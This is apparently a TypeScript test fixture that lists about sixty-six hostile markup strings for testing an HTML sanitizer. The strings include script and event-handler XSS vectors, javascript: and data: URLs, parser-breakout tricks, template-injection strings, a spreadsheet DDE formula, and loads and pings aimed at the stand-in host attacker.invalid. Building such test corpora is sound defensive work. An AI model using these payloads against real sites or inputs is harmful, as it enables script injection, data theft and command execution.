// Markup that runs or fetches something wherever it is taken for markup: sixty ways, each with a number of its own.

/** Where nothing may ever be asked for anything; the name cannot exist. */
export const attacker = 'http://attacker.invalid'

const make = (run: string, at: number): string[] => {
  const away = `${attacker}/${at}`
  return [
    `<script>${run}</script>`,
    `<script src="${away}.js"></script>`,
    `<ScRiPt type=module>${run}</sCrIpT>`,
    `<img src=x onerror="${run}">`,
    `<img src="${away}.png">`,
    `<img srcset="${away}.png 1x, ${away}-2.png 2x">`,
    `<picture><source srcset="${away}.webp"><img alt=x></picture>`,
    `<svg onload="${run}"></svg>`,
    `<svg><script>${run}</script></svg>`,
    `<svg><image href="${away}.svg"/></svg>`,
    `<svg><use href="${away}.svg#a"/></svg>`,
    `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
    `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${run}&lt;/script&gt;"></iframe></foreignObject></svg>`,
    `<svg><a xlink:href="javascript:${run}"><text y=20>vector</text></a></svg>`,
    `<math><mtext><mglyph><style><img src=x onerror="${run}"></style></mglyph></mtext></math>`,
    `<math href="javascript:${run}">formula</math>`,
    `<iframe src="${away}"></iframe>`,
    `<iframe src="javascript:parent.${run}"></iframe>`,
    `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
    `<object data="${away}.swf"></object>`,
    `<object data="data:text/html,<script>parent.${run}</script>"></object>`,
    `<embed src="${away}.swf">`,
    `<applet code="${away}.class"></applet>`,
    `<link rel=stylesheet href="${away}.css">`,
    `<link rel=prefetch href="${away}"><link rel=dns-prefetch href="//attacker.invalid">`,
    `<link rel=preload as=script href="${away}.js">`,
    `<link rel=icon href="${away}.ico">`,
    `<style>@import "${away}.css"; body { background: url(${away}.png) }</style>`,
    `<p style="background-image: url('${away}.png')">styled</p>`,
    `<p style="width: expression(${run}); -moz-binding: url(${away}.xml)">styled</p>`,
    `<meta http-equiv=refresh content="0;url=${away}">`,
    `<meta http-equiv=refresh content="0;url=javascript:${run}">`,
    `<base href="${attacker}/"><a href="relative">based</a>`,
    `<body onload="${run}" background="${away}.png">`,
    `<frameset><frame src="${away}"></frameset>`,
    `<video src="${away}.mp4" autoplay onloadstart="${run}"></video>`,
    `<video poster="${away}.png"></video>`,
    `<audio src="${away}.mp3" autoplay></audio>`,
    `<track src="${away}.vtt">`,
    `<input autofocus onfocus="${run}">`,
    `<input type=image src="${away}.png">`,
    `<details open ontoggle="${run}"><summary>more</summary></details>`,
    `<select autofocus onfocus="${run}"><option>x</select>`,
    `<textarea autofocus onfocus="${run}"></textarea>`,
    `<marquee onstart="${run}">moving</marquee>`,
    `<form action="${away}"><button formaction="javascript:${run}">send</button></form>`,
    `<isindex type=image src=1 onerror="${run}">`,
    `<a href="javascript:${run}">link</a>`,
    `<a href="JaVa&#x09;ScRiPt:${run}">link</a>`,
    `<a href="&#106;avascript&colon;${run}">link</a>`,
    `<a href=" \u0001javascript:${run}">link</a>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5nbG9iYWxUaGlzLnJhbj0xPC9zY3JpcHQ+">link</a>`,
    `<a href="vbscript:${run}">link</a>`,
    `<a href="file:///etc/passwd" ping="${away}">link</a>`,
    `<a href="blob:${attacker}/x">link</a>`,
    `<table background="${away}.png"><tr><td background="${away}.gif">cell</table>`,
    `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
    `<template><script>${run}</script></template>`,
    `<xmp><p title="</xmp><img src=x onerror=${run}>"></xmp>`,
    `<!--><img src=x onerror="${run}">-->`,
    `<![CDATA[><img src=x onerror="${run}">]]>`,
    `</title></style></textarea></script><img src=x onerror="${run}">`,
    `<x onclick="${run}" style="animation-name:x" onanimationstart="${run}">unknown</x>`,
    `<p is="x" contenteditable onblur="${run}" autofocus onfocus="${run}" tabindex=1>editable</p>`,
    `[link](javascript:${run}) ![picture](${away}.png) <javascript:${run}> [data]: data:text/html,x`,
    `{{constructor.constructor('${run}')()}} \${${run}} <%= ${run} %> =HYPERLINK("${away}","x") =cmd|'/C calc'!A0`,
  ]
}

/** All of them; `globalThis.ran` is set wherever one runs. */
export const hostileMarkup: readonly string[] = make('', 0).map((_one, at) => make('globalThis.ran=1', at)[at] ?? '')

/** A text as character data of XML or HTML. */
export const asCharacters = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('<', '&lt;').replaceAll('>', '&gt;').replaceAll('"', '&quot;')
